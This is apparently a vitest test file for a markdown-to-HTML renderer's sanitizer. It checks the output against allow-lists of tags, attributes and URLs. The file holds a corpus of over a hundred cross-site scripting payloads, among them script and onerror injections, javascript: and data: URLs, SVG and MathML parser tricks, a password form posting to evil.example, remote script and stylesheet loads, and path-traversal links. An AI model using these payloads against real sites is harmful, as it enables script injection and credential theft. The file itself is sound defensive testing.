import { describe, expect, it } from 'vitest';
import { parseDocument } from '../../../test/support/parsed-html.js';
import { renderMarkdown } from './render-markdown.js';

type Node = ReturnType<typeof parseDocument>['children'][number];

const ELEMENTS = new Set(
  (
    'h1 h2 h3 h4 h5 h6 a abbr b blockquote br code dd del details div dl dt em hr i img ins kbd li ol p pre q s samp ' +
    'span strong sub summary sup table tbody td tfoot th thead tr tt ul var'
  ).split(' '),
);
const ATTRIBUTES = new Set(
  'href id title rel open src alt width height loading start align class'.split(' '),
);
const ADDRESS = /^(?:https?:\/\/|mailto:|\/link\?|#readme-)/;
/** Markup that every parser reads the same way: plain lower-case tags, quoted values, no bracket anywhere else. */
const CANONICAL = /^(?:[^<>]|<\/[a-z][a-z0-9]*>|<[a-z][a-z0-9]*(?: [a-z]+(?:="[^"<>]*")?)*(?: \/)?>)*$/;

const render = (text: string) =>
  renderMarkdown(text, {
    base: 'modules/web',
    link: ({ path }) => `/link?path=${encodeURIComponent(path)}`,
    image: ({ path }) => `/image?path=${encodeURIComponent(path)}`,
  });

/** Everything in a piece of HTML that is not on the list. */
function offences(html: string): string[] {
  const found: string[] = CANONICAL.test(html) ? [] : ['markup that parsers may read in two ways'];
  const visit = (node: Node): void => {
    if (node.type === 'text' || node.type === 'comment') {
      if (node.type === 'comment') found.push('comment');
      return;
    }
    if (!('attribs' in node)) return void found.push(node.type);
    if (!ELEMENTS.has(node.name)) found.push(`<${node.name}>`);
    for (const [name, value] of Object.entries(node.attribs)) {
      if (!ATTRIBUTES.has(name)) found.push(`${name} of <${node.name}>`);
      if (name === 'href' && !ADDRESS.test(value)) found.push(`href ${value}`);
      if (name === 'src' && !value.startsWith('/image?path=')) found.push(`src ${value}`);
      if (name === 'id' && !value.startsWith('readme-')) found.push(`id ${value}`);
      if (name === 'class' && !value.startsWith('language-')) found.push(`class ${value}`);
      if (name === 'href' && !value.startsWith('#') && node.attribs['rel'] !== 'nofollow noopener noreferrer')
        found.push(`rel of ${value}`);
    }
    node.children.forEach(visit);
  };
  parseDocument(html).children.forEach(visit);
  return found;
}

const CORPUS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script>',
  '<script\n>alert(1)</script\n>',
  '<img src=x onerror=alert(1)>',
  '<img src="x"onerror="alert(1)">',
  '<img/src=x/onerror=alert(1)>',
  '<img src=x onerror\n=\nalert(1)>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<img src="javascript:alert(1)">',
  '<img src=`javascript:alert(1)`>',
  '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
  '<img srcset="x 1x, javascript:alert(1) 2x">',
  '<img src=https://tracker.example/pixel.gif>',
  '<img src=//tracker.example/pixel.gif>',
  '<img lowsrc="javascript:alert(1)" dynsrc="javascript:alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>',
  '<svg><textarea><img src=x onerror=alert(1)></textarea></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe><img src=x onerror=alert(1)></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code=x></applet>',
  '<form action="https://evil.example"><input name=password><button>go</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input onfocus=alert(1) autofocus>',
  '<select onchange=alert(1)><option>x</option></select>',
  '<textarea onfocus=alert(1) autofocus></textarea>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<style>@import "//evil.example/x.css"</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="position:fixed;inset:0">cover</div>',
  '<p onclick=alert(1) class="btn" id="admin">x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="\u00a0javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="blob:https://x/1">x</a>',
  '<a href="x" target="_blank" ping="https://evil.example" download onmouseover=alert(1)>x</a>',
  '<a id="__proto__" name="constructor">x</a>',
  '<a href="#" id="document.cookie">x</a>',
  '<h1 id="login-form">x</h1>',
  '<details ontoggle=alert(1) open>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<title><img src=x onerror=alert(1)></title>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<!DOCTYPE x [<!ENTITY y "z">]>',
  '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</td></table>',
  '<frameset><frame src="javascript:alert(1)"></frameset>',
  '<dialog open>x</dialog><portal src="https://evil.example"></portal>',
  '<custom-element onx=1 is="x">x</custom-element>',
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](&#x6A;avascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](vbscript:msgbox(1))',
  '[x](//evil.example)',
  '[x](../../../../etc/passwd)',
  '[x](%2e%2e/%2e%2e/%2e%2e/etc/passwd)',
  '[x](..\\..\\..\\windows)',
  '[x]: javascript:alert(1)\n\n[x]',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x](https://tracker.example/pixel.png)',
  '![x" onerror="alert(1)](img.png)',
  '![x](img.png "t\\" onerror=\\"alert(1)")',
  '[x](https://a.example "t\\" onclick=\\"alert(1)")',
  '[![x](https://tracker.example/a.svg)](javascript:alert(1))',
  '```"><script>alert(1)</script>\ncode\n```',
  '``` html onload=alert(1)\n<script>alert(1)</script>\n```',
  '`<script>alert(1)</script>`',
  '# <script>alert(1)</script>',
  '# x {onclick=alert(1)}\n<a href="#x">y</a>',
  '| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |',
  '> <iframe src=javascript:alert(1)>',
  '- <details><summary onclick=alert(1)>x</summary></details>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<p>&lt;img src=x onerror=alert(1)&gt;</p>',
  'https://evil.example/"onmouseover="alert(1)',
  'a@b.example"onmouseover="alert(1)',
  '<a href="https://user:password@evil.example">x</a>',
  '<div><a href="https://a.example"><div><a href="javascript:alert(1)">x</a></div></a></div>',
  '<b><i><u><font color=red onclick=alert(1)>x</font></u></i></b>',
  '\0<scr\0ipt>alert(1)</script>',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<a href="mailto:a@b.example?subject=<script>">x</a>',
  '<a href="https://a.example/\'onclick=alert(1)//">x</a>',
];

describe('a document that wants to do harm (threat row D20)', () => {
  it('is one of many kinds', () => {
    expect(new Set(CORPUS).size).toBeGreaterThan(100);
  });

  it.each(CORPUS)('%s', (payload) => {
    expect(offences(render(payload))).toEqual([]);
    expect(offences(render(`before\n\n${payload}\n\nafter`))).toEqual([]);
    expect(offences(render(`before ${payload} after`))).toEqual([]);
  });

  it('is not helped by another one before it', () => {
    for (const first of CORPUS) {
      expect(offences(render(`${first}\n\n${CORPUS.join('\n\n')}`))).toEqual([]);
      expect(offences(render(CORPUS.map((payload) => first + payload).join('')))).toEqual([]);
    }
  });

  it('is seen by this test', () => {
    const harmful = [
      '<p onclick="x">y</p>',
      '<script>1</script>',
      '<a href="javascript:1">x</a>',
      '<p><b <i>',
    ];
    expect(harmful.filter((html) => offences(html).length === 0)).toEqual([]);
  });
});
